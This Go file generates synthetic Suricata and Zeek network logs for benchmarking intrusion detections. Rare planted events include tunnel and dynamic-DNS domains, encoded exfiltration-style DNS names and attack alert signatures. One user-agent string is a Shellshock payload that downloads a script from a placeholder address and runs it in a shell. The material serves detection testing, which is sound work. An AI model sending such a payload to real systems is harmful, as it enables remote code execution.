package enginetest

import (
	"bufio"
	"fmt"
	"io"
	"math/rand/v2"
	"os"
	"path/filepath"
	"time"
)

// A network sensor's logs, for the benchmarks of the Suricata and Zeek
// detections: the traffic of an office and a few servers (DNS lookups of
// popular and internal names, TLS to the usual clouds, HTTP, SSH and RDP
// inside), with about one event in a hundred of what the detections look
// for (dynamic DNS and tunnel names, encoded DNS labels, downloads from
// bare addresses by scripts, scanners, large uploads, failed SSH logins,
// Suricata alerts of several families). Deterministic for a seed.

type netGen struct {
	rng *rand.Rand
	t   time.Time
}

var (
	netNames = []string{"www.google.com", "outlook.office365.com", "api.github.com", "slack.com", "s3.eu-west-1.amazonaws.com",
		"login.microsoftonline.com", "clients4.google.com", "update.googleapis.com", "fonts.gstatic.com", "cdn.jsdelivr.net",
		"intranet.corp.example", "git.corp.example", "wpad.corp.example", "time.windows.com", "registry.npmjs.org",
		"d2x1.cloudfront.net", "ocsp.digicert.com", "settings-win.data.microsoft.com", "teams.microsoft.com", "zoom.us"}
	netOddNames = []string{"cdn-update.duckdns.org", "c2.hopto.org", "x7f3.ngrok-free.app", "files.trycloudflare.com",
		"mail.example.tk", "abcd.onion", "4a6f686e20536d6974682068617320612064617461.exfil.example.net",
		"mzxw6ytboi2gk3tfnzsxg5dfon2gk3th.t.example.com", "version.bind"}
	netAgents = []string{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
		"Microsoft-CryptoAPI/10.0", "Windows-Update-Agent/10.0.10011.16384 Client-Protocol/2.50", "apt-transport-https/2.6.1"}
	netOddAgents = []string{"curl/8.5.0", "Wget/1.21.4", "python-requests/2.31.0", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
		"() { :; }; /bin/bash -c 'curl http://203.0.113.9/x|sh'", "sqlmap/1.7.2#stable (https://sqlmap.org)"}
	suriSigs = []struct {
		sig, cat string
		sev      int
	}{
		{"ET POLICY curl User-Agent Outbound", "Attempted Information Leak", 2},
		{"ET INFO Observed DNS Query to .cloud TLD", "Potentially Bad Traffic", 2},
		{"SURICATA STREAM ESTABLISHED packet out of window", "Generic Protocol Command Decode", 3},
		{"ET SCAN Nmap Scripting Engine User-Agent Detected (Nmap Scripting Engine)", "Web Application Attack", 1},
		{"ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT", "Web Application Attack", 1},
		{"ET MALWARE Cobalt Strike Beacon Observed", "A Network Trojan was detected", 1},
		{"ET TROJAN Possible Metasploit Payload Common Construct Bind_API (from server)", "A Network Trojan was detected", 1},
		{"ET EXPLOIT Apache log4j RCE Attempt (tcp ldap) (CVE-2021-44228)", "Attempted Administrator Privilege Gain", 1},
		{"GPL ATTACK_RESPONSE id check returned root", "Potentially Bad Traffic", 2},
		{"ET DNS Query to a *.duckdns.org Domain", "Potentially Bad Traffic", 2},
	}
)

func (g *netGen) inside() string {
	return fmt.Sprintf("10.%d.%d.%d", g.rng.IntN(4), g.rng.IntN(20), 2+g.rng.IntN(250))
}

func (g *netGen) outside() string {
	return fmt.Sprintf("%d.%d.%d.%d", 13+g.rng.IntN(200), g.rng.IntN(256), g.rng.IntN(256), 1+g.rng.IntN(254))
}

func (g *netGen) odd() bool { return g.rng.IntN(100) == 0 }

// SuricataEVE writes n Suricata EVE JSON records (one a line): flows, DNS,
// TLS, HTTP and alerts in the proportions of a sensor at a network edge.
func SuricataEVE(w io.Writer, n int, seed uint64) error {
	g := &netGen{rng: rand.New(rand.NewPCG(seed, 13)), t: time.Date(2024, 5, 6, 8, 0, 0, 0, time.UTC)}
	bw := bufio.NewWriterSize(w, 256<<10)
	for i := 0; i < n; i++ {
		g.t = g.t.Add(time.Duration(g.rng.IntN(40)) * time.Millisecond)
		ts := g.t.Format("2006-01-02T15:04:05.000000-0700")
		src, dst := g.inside(), g.outside()
		head := fmt.Sprintf(`{"timestamp":"%s","flow_id":%d,"in_iface":"eth1","src_ip":"%s","src_port":%d,"dest_ip":"%s"`,
			ts, g.rng.Int64N(1<<50), src, 1024+g.rng.IntN(60000), dst)
		switch k := g.rng.IntN(100); {
		case k < 40:
			fmt.Fprintf(bw, `%s,"dest_port":443,"proto":"TCP","event_type":"flow","app_proto":"tls","flow":{"pkts_toserver":%d,"pkts_toclient":%d,"bytes_toserver":%d,"bytes_toclient":%d,"start":"%s","end":"%s","age":%d,"state":"closed","reason":"timeout","alerted":false},"tcp":{"tcp_flags":"1b","syn":true,"fin":true,"psh":true,"ack":true,"state":"closed"}}`+"\n",
				head, 5+g.rng.IntN(50), 5+g.rng.IntN(80), 500+g.rng.IntN(20000), 1000+g.rng.IntN(900000), ts, ts, g.rng.IntN(120))
		case k < 65:
			name := netNames[g.rng.IntN(len(netNames))]
			if g.odd() {
				name = netOddNames[g.rng.IntN(len(netOddNames))]
			}
			fmt.Fprintf(bw, `%s,"dest_port":53,"proto":"UDP","event_type":"dns","dns":{"type":"query","id":%d,"rrname":"%s","rrtype":"A","tx_id":0,"opcode":0}}`+"\n",
				head, g.rng.IntN(65536), name)
		case k < 80:
			sni := netNames[g.rng.IntN(len(netNames))]
			if g.odd() {
				sni = netOddNames[g.rng.IntN(len(netOddNames))]
			}
			fmt.Fprintf(bw, `%s,"dest_port":443,"proto":"TCP","event_type":"tls","tls":{"subject":"CN=%s","issuerdn":"C=US, O=Let's Encrypt, CN=R3","serial":"04:A1:%02X","fingerprint":"3a:4f:%02x","sni":"%s","version":"TLS 1.3","notbefore":"2024-03-01T00:00:00","notafter":"2024-05-30T23:59:59","ja3":{"hash":"%016x"},"ja3s":{"hash":"%016x"}}}`+"\n",
				head, sni, g.rng.IntN(256), g.rng.IntN(256), sni, g.rng.Uint64(), g.rng.Uint64())
		case k < 90:
			ua := netAgents[g.rng.IntN(len(netAgents))]
			if g.odd() {
				ua = netOddAgents[g.rng.IntN(len(netOddAgents))]
			}
			fmt.Fprintf(bw, `%s,"dest_port":80,"proto":"TCP","event_type":"http","tx_id":0,"http":{"hostname":"%s","url":"/download/pkg-%d.tar.gz","http_user_agent":%q,"http_content_type":"application/gzip","http_method":"GET","protocol":"HTTP/1.1","status":200,"length":%d}}`+"\n",
				head, netNames[g.rng.IntN(len(netNames))], g.rng.IntN(1000), ua, g.rng.IntN(1<<20))
		default:
			s := suriSigs[g.rng.IntN(len(suriSigs))]
			if g.rng.IntN(3) == 0 { // an attacker from outside
				src, dst = "203.0.113."+fmt.Sprint(1+g.rng.IntN(30)), g.inside()
				head = fmt.Sprintf(`{"timestamp":"%s","flow_id":%d,"in_iface":"eth1","src_ip":"%s","src_port":%d,"dest_ip":"%s"`,
					ts, g.rng.Int64N(1<<50), src, 1024+g.rng.IntN(60000), dst)
			}
			action := "allowed"
			if g.rng.IntN(10) == 0 {
				action = "blocked"
			}
			fmt.Fprintf(bw, `%s,"dest_port":80,"proto":"TCP","event_type":"alert","tx_id":0,"alert":{"action":"%s","gid":1,"signature_id":%d,"rev":3,"signature":"%s","category":"%s","severity":%d},"app_proto":"http","flow":{"pkts_toserver":4,"pkts_toclient":3,"bytes_toserver":500,"bytes_toclient":900,"start":"%s"}}`+"\n",
				head, action, 2000000+g.rng.IntN(30000), s.sig, s.cat, s.sev, ts)
		}
	}
	return bw.Flush()
}

// ZeekJSON writes Zeek logs as JSON lines into dir, one file per log as
// Zeek writes them (conn.log, dns.log, http.log, ssl.log, ssh.log,
// notice.log, software.log), about n events in all.
func ZeekJSON(dir string, n int, seed uint64) error {
	g := &netGen{rng: rand.New(rand.NewPCG(seed, 17)), t: time.Date(2024, 5, 6, 8, 0, 0, 0, time.UTC)}
	logs := []struct {
		name  string
		share int
		write func(w *bufio.Writer, ts float64, uid, orig, resp string)
	}{
		{"conn", 45, g.zeekConn}, {"dns", 30, g.zeekDNS}, {"ssl", 13, g.zeekSSL}, {"http", 8, g.zeekHTTP},
		{"ssh", 2, g.zeekSSH}, {"software", 1, g.zeekSoftware}, {"notice", 1, g.zeekNotice},
	}
	for _, l := range logs {
		f, err := os.Create(filepath.Join(dir, l.name+".log"))
		if err != nil {
			return err
		}
		bw := bufio.NewWriterSize(f, 256<<10)
		g.t = time.Date(2024, 5, 6, 8, 0, 0, 0, time.UTC)
		count := n * l.share / 100
		step := time.Duration(int64(6*time.Hour) / int64(max(count, 1)))
		for i := 0; i < count; i++ {
			g.t = g.t.Add(step)
			ts := float64(g.t.UnixMicro()) / 1e6
			uid := fmt.Sprintf("C%016x", g.rng.Uint64()>>4)
			l.write(bw, ts, uid, g.inside(), g.outside())
		}
		if err := bw.Flush(); err != nil {
			return err
		}
		if err := f.Close(); err != nil {
			return err
		}
	}
	return nil
}

func zeekHead(ts float64, uid, orig string, op int, resp string, rp int) string {
	return fmt.Sprintf(`{"ts":%.6f,"uid":"%s","id.orig_h":"%s","id.orig_p":%d,"id.resp_h":"%s","id.resp_p":%d`, ts, uid, orig, op, resp, rp)
}

func (g *netGen) zeekConn(w *bufio.Writer, ts float64, uid, orig, resp string) {
	sent := int64(200 + g.rng.IntN(50000))
	if g.rng.IntN(2000) == 0 {
		sent = 2<<30 + g.rng.Int64N(1<<30) // a large upload
	}
	fmt.Fprintf(w, `%s,"proto":"tcp","service":"ssl","duration":%.3f,"orig_bytes":%d,"resp_bytes":%d,"conn_state":"SF","local_orig":true,"local_resp":false,"missed_bytes":0,"history":"ShADadFf","orig_pkts":%d,"orig_ip_bytes":%d,"resp_pkts":%d,"resp_ip_bytes":%d}`+"\n",
		zeekHead(ts, uid, orig, 1024+g.rng.IntN(60000), resp, 443), g.rng.Float64()*30, sent, 1000+g.rng.IntN(900000),
		10+g.rng.IntN(90), sent+800, 10+g.rng.IntN(900), 2000+g.rng.IntN(900000))
}

func (g *netGen) zeekDNS(w *bufio.Writer, ts float64, uid, orig, _ string) {
	q := netNames[g.rng.IntN(len(netNames))]
	if g.odd() {
		q = netOddNames[g.rng.IntN(len(netOddNames))]
	}
	fmt.Fprintf(w, `%s,"proto":"udp","trans_id":%d,"rtt":0.01,"query":"%s","qclass":1,"qclass_name":"C_INTERNET","qtype":1,"qtype_name":"A","rcode":0,"rcode_name":"NOERROR","AA":false,"TC":false,"RD":true,"RA":true,"Z":0,"answers":["%s"],"TTLs":[60.0],"rejected":false}`+"\n",
		zeekHead(ts, uid, orig, 1024+g.rng.IntN(60000), "10.0.0.53", 53), g.rng.IntN(65536), q, g.outside())
}

func (g *netGen) zeekSSL(w *bufio.Writer, ts float64, uid, orig, resp string) {
	sni := netNames[g.rng.IntN(len(netNames))]
	if g.odd() {
		sni = netOddNames[g.rng.IntN(len(netOddNames))]
	}
	status := "ok"
	if g.rng.IntN(300) == 0 {
		status = "self signed certificate"
	}
	fmt.Fprintf(w, `%s,"version":"TLSv13","cipher":"TLS_AES_128_GCM_SHA256","curve":"x25519","server_name":"%s","resumed":false,"established":true,"ssl_history":"CsiI","validation_status":"%s"}`+"\n",
		zeekHead(ts, uid, orig, 1024+g.rng.IntN(60000), resp, 443), sni, status)
}

func (g *netGen) zeekHTTP(w *bufio.Writer, ts float64, uid, orig, resp string) {
	ua, host, uri := netAgents[g.rng.IntN(len(netAgents))], netNames[g.rng.IntN(len(netNames))], fmt.Sprintf("/download/pkg-%d.tar.gz", g.rng.IntN(1000))
	if g.odd() {
		ua, host, uri = netOddAgents[g.rng.IntN(len(netOddAgents))], resp, "/x.sh"
	}
	fmt.Fprintf(w, `%s,"trans_depth":1,"method":"GET","host":"%s","uri":"%s","version":"1.1","user_agent":%q,"request_body_len":0,"response_body_len":%d,"status_code":200,"status_msg":"OK","tags":[],"resp_fuids":["F%015x"],"resp_mime_types":["application/gzip"]}`+"\n",
		zeekHead(ts, uid, orig, 1024+g.rng.IntN(60000), resp, 80), host, uri, ua, g.rng.IntN(1<<20), g.rng.Uint64()>>4)
}

func (g *netGen) zeekSSH(w *bufio.Writer, ts float64, uid, orig, _ string) {
	ok := g.rng.IntN(4) != 0
	src := orig
	if !ok {
		src = "203.0.113." + fmt.Sprint(1+g.rng.IntN(20))
	}
	fmt.Fprintf(w, `%s,"version":2,"auth_success":%t,"auth_attempts":%d,"direction":"INBOUND","client":"SSH-2.0-OpenSSH_9.6","server":"SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6","cipher_alg":"chacha20-poly1305@openssh.com","mac_alg":"umac-64-etm@openssh.com","compression_alg":"none","kex_alg":"curve25519-sha256","host_key_alg":"ssh-ed25519","host_key":"e4:ff:%02x"}`+"\n",
		zeekHead(ts, uid, src, 1024+g.rng.IntN(60000), "10.0.1.10", 22), ok, 1+g.rng.IntN(3), g.rng.IntN(256))
}

func (g *netGen) zeekSoftware(w *bufio.Writer, ts float64, _, orig, _ string) {
	ua := netAgents[g.rng.IntN(len(netAgents))]
	if g.odd() {
		ua = netOddAgents[g.rng.IntN(len(netOddAgents))]
	}
	fmt.Fprintf(w, `{"ts":%.6f,"host":"%s","software_type":"HTTP::BROWSER","name":"Software","unparsed_version":%q}`+"\n", ts, orig, ua)
}

func (g *netGen) zeekNotice(w *bufio.Writer, ts float64, uid, orig, resp string) {
	notes := []string{"SSL::Invalid_Server_Cert", "Scan::Port_Scan", "CaptureLoss::Too_Much_Loss", "Weird::Activity", "SSH::Password_Guessing"}
	fmt.Fprintf(w, `%s,"proto":"tcp","note":"%s","msg":"generated notice","src":"%s","dst":"%s","p":443,"actions":["Notice::ACTION_LOG"],"suppress_for":3600.0}`+"\n",
		zeekHead(ts, uid, orig, 1024+g.rng.IntN(60000), resp, 443), notes[g.rng.IntN(len(notes))], orig, resp)
}
